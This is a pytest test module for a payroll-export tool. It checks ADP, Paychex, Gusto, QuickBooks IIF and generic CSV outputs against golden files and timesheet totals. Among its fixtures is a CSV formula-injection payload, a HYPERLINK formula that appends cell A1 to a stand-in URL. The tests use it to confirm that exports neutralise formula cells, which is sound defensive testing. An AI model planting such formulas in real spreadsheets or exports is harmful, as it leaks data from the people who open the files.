"""Each format against its golden file (tests/data/export/), read back as its payroll
system documents reading it (tests/unit/export/readers.py): totals agree with the
timesheets to the hundredth (QuickBooks: to the minute); hostile names (accents,
apostrophes, quotes, commas, formula prefixes, a one-word and a three-part name) come
back as they were, or neutralised where a person opens the file."""

from __future__ import annotations

import csv
import io
import os
from collections import defaultdict
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.export import paychex
from hub.export.cells import FORMULA_STARTS
from hub.export.context import PREVIEW
from hub.export.formats import FORMATS
from hub.export.generic import CsvField
from hub.export.identities import Identity
from hub.export.period_hours import PayCode, period_hours
from hub.rules.sheets import hours
from tests.unit.export import scenario
from tests.unit.export.readers import csv_rows, iif_records, minutes
from tests.unit.export.readers import hours as parse_hours
from tests.unit.export.render import render

GOLDEN = Path(__file__).parents[2] / "data" / "export"
UPDATE = os.environ.get("DEPOTCLOCK_UPDATE_GOLDEN") == "1"  # rewrite the golden files
HUNDREDTH, HALF_HUNDREDTH = Decimal("0.01"), Decimal("0.005")


def _exact() -> dict[str, dict[PayCode, Decimal]]:
    """Each approved technician's exact hours per pay code, from the engine."""
    return {
        s.technician.id: {code: hours(value) for code, value in
                          zip(PayCode, period_hours(s.timesheet, scenario.PERIOD))}
        for s in scenario.sheets()
    }


def _golden(format_name: str, files: dict[str, bytes]) -> None:
    for name, data in files.items():
        path = GOLDEN / format_name / name
        if UPDATE:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        assert data == path.read_bytes(), f"{path} differs (DEPOTCLOCK_UPDATE_GOLDEN=1 rewrites it)"


@pytest.mark.parametrize(("format_name", "preview"), [(f, False) for f in sorted(FORMATS)] + [("generic", True)])
def test_each_format_writes_its_golden_file(format_name, preview):
    _golden(format_name, render(format_name, preview))


def _assert_agrees(found: dict[str, dict[PayCode, Decimal]], codes=tuple(PayCode)) -> None:
    for tech, exact in _exact().items():
        for code in codes:
            assert abs(found[tech].get(code, 0) - exact[code]) < HUNDREDTH, (tech, code)
        total = sum(found[tech].get(c, 0) for c in codes)
        assert abs(total - sum(exact[c] for c in codes)) <= HALF_HUNDREDTH, tech


def test_generic_rows_read_back_agree_with_the_timesheets_and_the_detail_adds_up_to_them():
    summary_data, detail_data = render("generic").values()
    codes = scenario.SETTINGS.pay_codes
    by_name = {getattr(codes, c.value): c for c in PayCode}
    summary: dict[str, dict[PayCode, Decimal]] = defaultdict(lambda: defaultdict(Decimal))
    for row in csv_rows(summary_data, "utf-8-sig"):
        if row["pay_code"] != scenario.SETTINGS.mileage.code:
            summary[row["technician_id"]][by_name[row["pay_code"]]] += parse_hours(row["hours"])
    _assert_agrees(summary)
    detail: dict[str, dict[PayCode, Decimal]] = defaultdict(lambda: defaultdict(Decimal))
    for row in csv_rows(detail_data, "utf-8-sig"):
        detail[row["technician_id"]][by_name[row["pay_code"]]] += parse_hours(row["hours"])
    for tech, rows in summary.items():
        for code in (PayCode.REGULAR, PayCode.OVERTIME, PayCode.DOUBLE_TIME):
            assert detail[tech][code] == rows[code], (tech, code)


def test_generic_detail_names_the_work_order_category_and_billable_status():
    rows = csv_rows(render("generic")["depotclock-detail-2026-03-02_2026-03-15.csv"], "utf-8-sig")
    warranty = [r for r in rows if r["work_order"] == "WO-9"]
    assert warranty and {r["billable"] for r in warranty} == {"no"}
    assert {r["customer"] for r in warranty} == {"""'=HYPERLINK("http://x"&A1,"Click")"""}
    assert {r["category"] for r in rows} >= {"drive", "on_site"}
    night = [r for r in rows if r["technician_id"] == "T-300" and r["workday"] == "2026-03-03"]
    assert night[0]["start"] == "2026-03-03T00:00:00-06:00"  # cut at midnight


def test_generic_leaves_out_the_part_of_a_night_shift_that_falls_in_the_next_period():
    rows = csv_rows(render("generic")["depotclock-detail-2026-03-02_2026-03-15.csv"], "utf-8-sig")
    assert max(r["workday"] for r in rows if r["technician_id"] == "T-300") == "2026-03-15"


def test_adp_one_row_per_employee_double_time_in_hours_3_premium_in_hours_4_mileage_in_earnings_3():
    (name, data), = render("adp").items()
    assert name == "PRDC1EPI.csv"
    rows = csv_rows(data)
    assert list(rows[0])[:3] == ["Co Code", "Batch ID", "File #"]
    ana = next(r for r in rows if r["File #"] == "000200")
    assert (ana["Reg Hours"], ana["O/T Hours"]) == ("77.00", "5.00")
    assert (ana["Hours 3 Code"], ana["Hours 3 Amount"]) == ("D", "0.50")
    assert (ana["Hours 4 Code"], ana["Hours 4 Amount"]) == ("P", "1.00")
    assert ana["Earnings 3 Code"] == "M" and Decimal(ana["Earnings 3 Amount"]) > 0
    found = {
        {"000100": "T-100", "000200": "T-200", "000300": "T-300"}[r["File #"]]: {
            PayCode.REGULAR: parse_hours(r["Reg Hours"]), PayCode.OVERTIME: parse_hours(r["O/T Hours"]),
            PayCode.DOUBLE_TIME: parse_hours(r["Hours 3 Amount"]), PayCode.PREMIUM: parse_hours(r["Hours 4 Amount"]),
        }
        for r in rows
    }
    _assert_agrees(found)
    assert {r["Co Code"] for r in rows} == {"DC1"} and {r["Batch ID"] for r in rows} == {"MAR1"}


def test_adp_file_number_is_the_identity_zero_padded_to_six_digits():
    """Issue 17 #4: File # was the payroll id as stored (T-100); ADP wants its file number."""
    context = scenario.context(provider="adp")
    context.identities["T-100"] = Identity("42")
    rows = csv_rows(render("adp", context=context)["PRDC1EPI.csv"])
    assert rows[0]["File #"] == "000042"
    assert all(r["File #"].isdigit() and len(r["File #"]) == 6 for r in rows)


def test_adp_batch_id_is_the_exports_own():
    """Issue 17 #4: the Batch ID was the same every period; it is the prefix and the export's number."""
    batches = set()
    for export_id in (7, 8):
        context = replace(scenario.context(provider="adp"), export_id=export_id)
        batches |= {r["Batch ID"] for r in csv_rows(render("adp", context=context)["PRDC1EPI.csv"])}
    assert batches == {"MAR7", "MAR8"}


def test_paychex_rows_per_pay_component_read_back():
    (data,) = render("paychex").values()
    rows = csv_rows(data)
    assert list(rows[0]) == list(paychex.COLUMNS)
    components = {getattr(scenario.SETTINGS.paychex.pay_codes, c.value): c for c in PayCode}
    found: dict[str, dict[PayCode, Decimal]] = defaultdict(lambda: defaultdict(Decimal))
    workers = {"T100": "T-100", "T200": "T-200", "T300": "T-300"}
    mileage = {}
    for row in rows:
        assert row["CLIENT ID"] == "70012345" and row["WORKER ID"].isalnum()
        if row["PAY COMPONENT"] == "Mileage":
            assert row["HOURS"] == ""
            mileage[workers[row["WORKER ID"]]] = Decimal(row["AMOUNT"])
            continue
        found[workers[row["WORKER ID"]]][components[row["PAY COMPONENT"]]] += parse_hours(row["HOURS"])
    _assert_agrees(found)
    assert set(mileage) == {"T-100", "T-200", "T-300"}


def test_gusto_rows_read_back_with_premium_hours_in_missed_break_hours():
    """Issue 17 #1 and #6: Gusto's own ids, stored given and family names (not a split
    display name), premium hours in `missed_break_hours` (an upload overwrites hand entries)."""
    (data,) = render("gusto").values()
    rows = csv_rows(data)
    assert [(r["first_name"], r["last_name"], r["gusto_employee_id"]) for r in rows] == [
        ("José", "Núñez Ruiz", "a1b2c3"), ("Ana", "O'Neil", "d4e5f6"), ("Ben", "Okafor", "g7h8i9")]
    found = {
        {"a1b2c3": "T-100", "d4e5f6": "T-200", "g7h8i9": "T-300"}[r["gusto_employee_id"]]: {
            PayCode.REGULAR: parse_hours(r["regular_hours"]), PayCode.OVERTIME: parse_hours(r["overtime_hours"]),
            PayCode.DOUBLE_TIME: parse_hours(r["double_overtime_hours"]),
            PayCode.PREMIUM: parse_hours(r["missed_break_hours"]),
        }
        for r in rows
    }
    _assert_agrees(found)
    assert found["T-200"][PayCode.PREMIUM] == Decimal("1.00")


def test_iif_time_activities_read_back_to_the_minute_none_over_23_59():
    (name, data), = render("iif").items()
    assert name.endswith(".iif")
    assert "Núñez Ruiz, José".encode("cp1252") in data  # Windows-1252, as QuickBooks Desktop reads
    records = iif_records(data)
    (header,) = records["TIMERHDR"]
    assert (header["COMPANYNAME"], header["COMPANYCREATETIME"]) == ("Depot Services LLC", "1767225600")
    items = {getattr(scenario.SETTINGS.iif.pay_codes, c.value): c for c in PayCode}
    names = {t.identities["iif"].employee_name: t.id for t in scenario.TECHNICIANS}
    found: dict[str, dict[PayCode, int]] = defaultdict(lambda: defaultdict(int))
    for act in records["TIMEACT"]:
        assert minutes(act["DURATION"]) <= 23 * 60 + 59
        assert act["XFERTOPAYROLL"] == "Y"
        found[names[act["EMP"]]][items[act["PITEM"]]] += minutes(act["DURATION"])
    for tech, exact in _exact().items():
        for code in PayCode:
            assert abs(Decimal(found[tech][code]) / 60 - exact[code]) < Decimal(1) / 60, (tech, code)
        total = Decimal(sum(found[tech].values())) / 60
        assert abs(total - sum(exact.values())) <= Decimal(1) / 120, tech


def test_iif_billing_status_comes_from_the_work_order():
    records = iif_records(render("iif")["quickbooks-time-2026-03-02_2026-03-15.iif"])
    status = {act["JOB"]: act["BILLINGSTATUS"] for act in records["TIMEACT"]}
    assert status["Lakeview Dental:WO-7"] == "1"
    assert status["Northside Clinic:Warranty"] == "0"  # the QuickBooks job, not the customer
    assert status[""] == "0"  # premium, gaps and breaks belong to no work order


def test_iif_an_activity_over_23_59_is_split():
    from hub.export.iif import duration, split_minutes

    assert [duration(m) for m in split_minutes(25 * 60)] == ["23:59", "1:01"]
    assert split_minutes(23 * 60 + 59) == [1439] and split_minutes(0) == []


def test_a_preview_says_preview_in_its_names_and_on_every_row():
    """Issue 17 #3: a preview is only ever DepotClock's CSV, PREVIEW in the name and every row."""
    files = render("generic", preview=True)
    for name, data in files.items():
        assert PREVIEW in name
        rows = csv_rows(data, "utf-8-sig")
        assert rows and {r["preview"] for r in rows} == {PREVIEW}
    assert not any(PREVIEW.encode() in data for data in render("generic").values())


def test_only_the_generic_format_takes_previews():
    assert [name for name, f in FORMATS.items() if f.previews] == ["generic"]


def test_generic_files_start_with_a_utf8_byte_order_mark_for_excel():
    """Issue 17 #8: without a BOM Excel opens UTF-8 in the ANSI code page ("JosÃ©")."""
    summary, detail = render("generic").values()
    assert summary.startswith(b"\xef\xbb\xbf") and detail.startswith(b"\xef\xbb\xbf")
    assert "José".encode() in summary


def test_generic_neutralises_formula_cells_and_keeps_numbers():
    """Issue 17 #7 (CWE-1236): =, +, -, @, tab and CR cells are shown as text."""
    hostile = replace(scenario.TECHNICIANS[0], name='=HYPERLINK("http://x"&A1,"Click")', payroll_id="@1")
    sheet = scenario.sheets(("T-100",))[0]
    sheet = replace(sheet, technician=hostile.row())
    summary, detail = (csv_rows(data, "utf-8-sig") for data in render("generic", sheets=[sheet]).values())
    assert {r["name"] for r in summary} == {"""'=HYPERLINK("http://x"&A1,"Click")"""}
    assert {r["employee_id"] for r in summary} == {"'@1"} == {r["employee_id"] for r in detail}
    for row in summary + detail:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row


def test_the_cli_offers_every_format():
    from hub.cli.hub import export

    (option,) = [p for p in export.params if p.name == "format_name"]
    assert list(option.type.choices) == list(FORMATS)


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(["", " ", ",", '"', "a,b", 'say "hi"', "x\r\ny", "\n"])),
                min_size=1, max_size=6))
def test_csv_field_writes_what_csv_writer_writes(values):
    """The generic detail file assembles rows from fields the csv module rendered once."""
    field = CsvField()
    expected = io.StringIO(newline="")
    csv.writer(expected).writerow([*values, "end"])
    assert ",".join([*(field(v) for v in values), "end"]) + "\r\n" == expected.getvalue()
